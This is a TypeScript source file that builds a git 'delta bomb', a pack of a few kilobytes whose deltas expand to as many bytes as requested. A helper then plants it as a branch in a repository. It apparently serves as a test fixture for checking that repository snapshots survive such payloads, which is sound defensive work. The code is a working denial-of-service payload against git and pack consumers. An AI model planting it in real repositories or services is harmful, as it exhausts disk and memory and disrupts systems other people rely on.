// Builds a git "delta bomb": a pack of a few KB whose deltas expand to as many bytes as asked (git's
// pack format, Documentation/gitformat-pack.txt, written here byte by byte). One base blob of 64 KiB
// of `a`, then `count` REF_DELTA entries against it, each a run of one-byte copy instructions (copy
// 64 KiB from offset 0: a command byte 0x80 with no offset or size bytes) and a 4-byte insert that
// makes every result distinct. `plantBomb` indexes such a pack into a repository and makes a branch
// whose tree names every result, so a snapshot of that repository carries the bomb in its history.

import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { git } from '../../scripts/sample-agent.js';

const BASE = Buffer.alloc(64 * 1024, 'a');

/** A varint as a delta header writes sizes (7 bits a byte, least significant first). */
function deltaSize(n: number): Buffer {
  const out: number[] = [];
  do {
    let b = n % 128;
    n = Math.floor(n / 128);
    if (n > 0) b |= 0x80;
    out.push(b);
  } while (n > 0);
  return Buffer.from(out);
}

/** A pack entry's header: type and uncompressed size. */
function entryHeader(type: number, size: number): Buffer {
  const out = [(type << 4) | (size & 0x0f)];
  let rest = Math.floor(size / 16);
  while (rest > 0) {
    out[out.length - 1]! |= 0x80;
    out.push(rest & 0x7f);
    rest = Math.floor(rest / 128);
  }
  return Buffer.from(out);
}

function blobOid(parts: Iterable<Buffer>, size: number): string {
  const h = createHash('sha1').update(`blob ${size}\0`);
  for (const p of parts) h.update(p);
  return h.digest('hex');
}

export interface DeltaBomb {
  pack: Buffer;
  /** The ids of the results, in order. */
  oids: string[];
  /** Bytes of each result. */
  resultBytes: number;
}

/** A pack of one 64 KiB base and `count` deltas of at least `minResultBytes` each (whole 64 KiB copies + 4). */
export function deltaBomb(count: number, minResultBytes: number): DeltaBomb {
  const copies = Math.ceil(minResultBytes / BASE.length);
  const resultBytes = copies * BASE.length + 4;
  const baseOid = blobOid([BASE], BASE.length);
  const parts: Buffer[] = [Buffer.from('PACK'), Buffer.from([0, 0, 0, 2]), Buffer.alloc(4)];
  parts[2]!.writeUInt32BE(count + 1);
  parts.push(entryHeader(3, BASE.length), deflateSync(BASE));
  const oids: string[] = [];
  const ops = Buffer.alloc(copies, 0x80);
  for (let i = 0; i < count; i++) {
    const tail = Buffer.alloc(4);
    tail.writeUInt32BE(i);
    const delta = Buffer.concat([
      deltaSize(BASE.length),
      deltaSize(resultBytes),
      ops,
      Buffer.from([4]), // insert the next 4 bytes
      tail,
    ]);
    parts.push(entryHeader(7, delta.length), Buffer.from(baseOid, 'hex'), deflateSync(delta));
    oids.push(
      blobOid(
        (function* () {
          for (let c = 0; c < copies; c++) yield BASE;
          yield tail;
        })(),
        resultBytes,
      ),
    );
  }
  const body = Buffer.concat(parts);
  return { pack: Buffer.concat([body, createHash('sha1').update(body).digest()]), oids, resultBytes };
}

/**
 * Indexes `bomb` into the repository of `memdir` (its pack kept as it is, so `git bundle create` and
 * `pack-objects` reuse the deltas) and points `branch` at a commit whose tree names every result.
 */
export function plantBomb(memdir: string, bomb: DeltaBomb, branch = 'refs/heads/bomb'): string {
  git(memdir, ['index-pack', '--stdin'], bomb.pack);
  const tree = git(
    memdir,
    ['mktree'],
    bomb.oids.map((oid, i) => `100644 blob ${oid}\tbomb-${String(i).padStart(5, '0')}.md\n`).join(''),
  ).trim();
  const head = git(memdir, ['rev-parse', 'HEAD']).trim();
  const commit = git(memdir, ['commit-tree', tree, '-p', head, '-m', 'bomb']).trim();
  git(memdir, ['update-ref', branch, commit]);
  return commit;
}
